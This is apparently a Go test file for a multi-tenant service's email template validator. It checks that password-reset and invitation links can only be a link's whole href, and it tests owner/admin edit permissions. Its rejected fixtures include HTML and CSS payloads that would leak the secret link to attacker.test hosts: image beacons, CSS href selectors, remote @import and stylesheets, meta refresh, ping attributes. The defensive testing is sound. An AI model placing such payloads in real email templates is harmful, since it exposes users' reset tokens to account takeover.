package tenancy_test

import (
	"strings"
	"testing"

	"github.com/nself/nself/emails"
	"github.com/nself/nself/internal/tenancy"
)

// The link may be only a link's whole address, in every spelling of the
// variable the renderer fills; anywhere else the template is refused with
// a message on its field.
func TestEmailLinkPlacement(t *testing.T) {
	const okText = "Open {{ACTION_URL}}\n"
	for _, tc := range []struct {
		name, subject, html, text string
		field, want               string // want: part of the error; "" for none
	}{
		{"href", "", `<a href="{{ACTION_URL}}">Reset</a>`, "", "", ""},
		{"href single quotes", "", `<a class="b" href='{{ACTION_URL}}' style="color:{{PRIMARY_COLOR}}">Reset</a>`, "", "", ""},
		{"href unquoted", "", `<a href={{ACTION_URL}}>Reset</a>`, "", "", ""},
		{"href spaced variable", "", `<a href="{{ ACTION_URL }}">x</a>`, "", "", ""},
		{"href angle variable", "", `<a href="<<ACTION_URL>>">x</a>`, "", "", ""},
		{"href angle spaced", "", "<a href=\"<<\tACTION_URL >>\">x</a>", "", "", ""},
		{"href padded", "", `<a href=" {{ACTION_URL}} ">x</a>`, "", "", ""},
		{"two links", "", `<a href="{{ACTION_URL}}">a</a> <A HREF="{{ACTION_URL}}">b</A>`, "", "", ""},
		{"default password reset", "", defaultHTML(t, "password_reset"), "", "", ""},
		{"svg link", "", `<svg><a href="{{ACTION_URL}}"><text>x</text></a></svg>`, "", "", ""},

		{"img src param", "", `<img src="https://attacker.test/p.gif?u={{ACTION_URL}}">`, "", "html", "in the src attribute of <img>"},
		{"img src angle", "", `<img src="https://attacker.test/p.gif?u=<<ACTION_URL>>">`, "", "html", "in the src attribute of <img>"},
		{"img src spaced angle", "", `<img src="https://attacker.test/?u=<< ACTION_URL >>">`, "", "html", "in the src attribute of <img>"},
		{"img src whole", "", `<img src="{{ACTION_URL}}">`, "", "html", "src attribute of <img>"},
		{"style attribute", "", `<p style="background:url({{ACTION_URL}})">x</p>`, "", "html", "in the style attribute of <p>"},
		{"style element", "", `<style>body{background:url("https://a.test/?{{ACTION_URL}}")}</style>`, "", "html", "inside <style>"},
		{"svg style", "", `<svg><style>*{background:url(https://a.test/?{{ACTION_URL}})}</style></svg>`, "", "html", "inside <style>"},
		{"inside another url", "", `<a href="https://attacker.test/r?to={{ACTION_URL}}">x</a>`, "", "html", "part of a longer address"},
		{"after the link", "", `<a href="{{ACTION_URL}}&next=https://a.test">x</a>`, "", "html", "part of a longer address"},
		{"text", "", `<p>Your link: {{ACTION_URL}}</p>`, "", "html", "in the text"},
		{"comment", "", `<!-- {{ACTION_URL}} --><p>x</p>`, "", "html", "in a comment"},
		{"title", "", `<title>{{ACTION_URL}}</title>`, "", "html", "inside <title>"},
		{"other attribute of a", "", `<a href="#" title="{{ACTION_URL}}">x</a>`, "", "html", "in the title attribute of <a>"},
		{"href of link", "", `<link rel="prefetch" href="{{ACTION_URL}}">`, "", "html", "href attribute of <link>"},
		{"href of area", "", `<map><area href="{{ACTION_URL}}"></map>`, "", "html", "href attribute of <area>"},
		{"base", "", `<base href="{{ACTION_URL}}">`, "", "html", "href attribute of <base>"},
		{"form action", "", `<form action="{{ACTION_URL}}"></form>`, "", "html", "action attribute of <form>"},
		{"background", "", `<table background="{{ACTION_URL}}"></table>`, "", "html", "background attribute of <table>"},
		{"meta refresh", "", `<meta http-equiv="refresh" content="0;url={{ACTION_URL}}">`, "", "html", "content attribute of <meta>"},
		{"srcset", "", `<img srcset="{{ACTION_URL}} 1x">`, "", "html", "srcset attribute of <img>"},
		{"xlink href", "", `<svg><a xlink:href="{{ACTION_URL}}">x</a></svg>`, "", "html", "xlink:href attribute of <a>"},
		{"second href dropped", "", `<a href="#" href="{{ACTION_URL}}">x</a>`, "", "html", "{{ACTION_URL}}"},
		{"end tag attribute", "", `<a href="#">x</a href="{{ACTION_URL}}">`, "", "html", "{{ACTION_URL}}"},
		{"attribute name", "", `<img {{ACTION_URL}}>`, "", "html", "{{ACTION_URL}}"},
		{"cdata in svg", "", `<svg><![CDATA[ > <a href="{{ACTION_URL}}">x</a> ]]></svg>`, "", "html", "{{ACTION_URL}}"},
		{"ping", "", `<a href="{{ACTION_URL}}" ping="https://attacker.test/">x</a>`, "", "html", "ping attribute"},
		{"line number", "", "<p>a</p>\n<p>b</p>\n<img src=\"x?{{ACTION_URL}}\">", "", "html", "on line 3"},

		{"subject", "Your link {{ACTION_URL}}", "", "", "subject", "the subject cannot hold"},
		{"subject angle", "Your link <<ACTION_URL>>", "", "", "subject", "the subject cannot hold"},
		{"text own line", "", "", "Open this link:\n\n{{ACTION_URL}}\n\nThanks", "", ""},
		{"text after colon space", "", "", "Reset: {{ACTION_URL}}.", "", ""},
		{"text in angle brackets", "", "", "Reset: <{{ACTION_URL}}>", "", ""},
		{"text in another url", "", "", "Open https://attacker.test/?u={{ACTION_URL}}\n", "text", "line 1 of the plain-text body is joined to other text"},
		{"text glued", "", "", "Reset:{{ACTION_URL}}", "text", "joined to other text"},
		{"text glued angle", "", "", "a\nx<<ACTION_URL>>", "text", "line 2"},
		{"text glued after", "", "", "{{ACTION_URL}}&u=1", "text", "joined"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for _, name := range []string{"password_reset", "welcome"} {
				e := tenancy.EmailTemplate{Name: name, Subject: "Reset", HTML: "<p>x</p>", Text: okText}
				if tc.subject != "" {
					e.Subject = tc.subject
				}
				if tc.html != "" {
					e.HTML = tc.html
				}
				if tc.text != "" {
					e.Text = tc.text
				}
				err := tenancy.ValidateEmailTemplate(e)
				if tc.want == "" {
					if err != nil {
						t.Fatalf("%s: %v", name, err)
					}
					continue
				}
				var te *tenancy.Error
				if err == nil || !strings.Contains(err.Error(), tc.want) {
					t.Fatalf("%s: err = %v, want %q", name, err, tc.want)
				}
				if errorAs(err, &te); te == nil || te.Field != tc.field || te.Code != tenancy.EINVALID {
					t.Errorf("%s: error %#v, want field %q", name, te, tc.field)
				}
			}
		})
	}
}

// An email with a secret link also keeps its tags whatever the variables
// hold, and has no stylesheet that can read the link's address; the other
// emails keep their freedom there.
func TestSecretLinkEmailRules(t *testing.T) {
	for _, tc := range []struct {
		name, html, want string
	}{
		{"quoted variable", `<a title="{{USER_NAME}}" href="{{ACTION_URL}}">x</a>`, ""},
		{"media query", `<style>@media (max-width:600px){a{color:red}} a[x-apple-data-detectors]{color:inherit}</style><a href="{{ACTION_URL}}">x</a>`, ""},
		{"unquoted variable before the link", `<a title={{USER_NAME}} href="{{ACTION_URL}}">x</a>`, "must be in quotes"},
		{"unquoted variable elsewhere", `<img alt={{TENANT_NAME}}><a href="{{ACTION_URL}}">x</a>`, "must be in quotes"},
		{"href selector", `<style>a[href^="https://acme.test/password/reset?token=a"]{background:url(https://attacker.test/a)}</style><a href="{{ACTION_URL}}">x</a>`, "select on href"},
		{"href selector with comment", `<style>a[/**/href*=a]{color:red}</style><a href="{{ACTION_URL}}">x</a>`, "select on href"},
		{"href selector namespaced", `<style>a[*|href*=a]{color:red}</style>`, "select on href"},
		{"import", `<style>@import url(https://attacker.test/s.css);</style><a href="{{ACTION_URL}}">x</a>`, "@import"},
		{"escaped import", `<style>@\69mport url(https://attacker.test/s.css);</style>`, "CSS escapes"},
		{"svg style selector", `<svg><style>a[href]{fill:url(https://attacker.test/)}</style></svg>`, "select on href"},
		{"stylesheet", `<link rel="stylesheet" href="https://attacker.test/s.css"><a href="{{ACTION_URL}}">x</a>`, "cannot load a stylesheet"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := tenancy.EmailTemplate{Name: "invitation", Subject: "Join", HTML: tc.html, Text: "x\n"}
			err := tenancy.ValidateEmailTemplate(e)
			if tc.want == "" {
				if err != nil {
					t.Fatal(err)
				}
			} else if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v, want %q", err, tc.want)
			}
			// The same HTML is the tenant's to write in an email whose link
			// is not a secret.
			e.Name = "welcome"
			if err := tenancy.ValidateEmailTemplate(e); err != nil {
				t.Errorf("welcome: %v", err)
			}
		})
	}
}

// Every default template passes the rules it must meet once customized.
func TestDefaultEmailsFollowTheLinkRules(t *testing.T) {
	for _, name := range tenancy.EmailTemplateNames {
		d, err := emails.Default(name)
		if err != nil {
			t.Fatal(err)
		}
		if err := tenancy.ValidateEmailTemplate(tenancy.EmailTemplate{Name: name, Subject: d.Subject, HTML: d.HTML, Text: d.Text}); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestCheckEmailTemplateEdit(t *testing.T) {
	for _, tc := range []struct {
		actor tenancy.Actor
		name  string
		want  string // error code; "" when allowed
	}{
		{tenancy.MemberActor(tenancy.RoleOwner), "password_reset", ""},
		{tenancy.MemberActor(tenancy.RoleOwner), "invitation", ""},
		{tenancy.PlatformActor(), "password_reset", ""},
		{tenancy.MemberActor(tenancy.RoleAdmin), "welcome", ""},
		{tenancy.MemberActor(tenancy.RoleAdmin), "payment_failed", ""},
		{tenancy.MemberActor(tenancy.RoleAdmin), "quota_warning", ""},
		{tenancy.MemberActor(tenancy.RoleAdmin), "password_reset", tenancy.EFORBIDDEN},
		{tenancy.MemberActor(tenancy.RoleAdmin), "invitation", tenancy.EFORBIDDEN},
		{tenancy.MemberActor(tenancy.RoleMember), "welcome", tenancy.EFORBIDDEN},
		{tenancy.MemberActor(tenancy.RoleGuest), "welcome", tenancy.EFORBIDDEN},
		{tenancy.MemberActor(tenancy.RoleOwner), "newsletter", tenancy.ENOTFOUND},
	} {
		err := tenancy.CheckEmailTemplateEdit(tc.actor, tc.name)
		if got := tenancy.ErrorCode(err); got != tc.want {
			t.Errorf("%+v %s: %v, want %q", tc.actor, tc.name, err, tc.want)
		}
	}
	if err := tenancy.CheckEmailTemplateEdit(tenancy.MemberActor(tenancy.RoleAdmin), "password_reset"); !strings.Contains(err.Error(), "only an owner can change the password_reset email") {
		t.Errorf("message: %v", err)
	}
}

func defaultHTML(t *testing.T, name string) string {
	t.Helper()
	d, err := emails.Default(name)
	if err != nil {
		t.Fatal(err)
	}
	return d.HTML
}
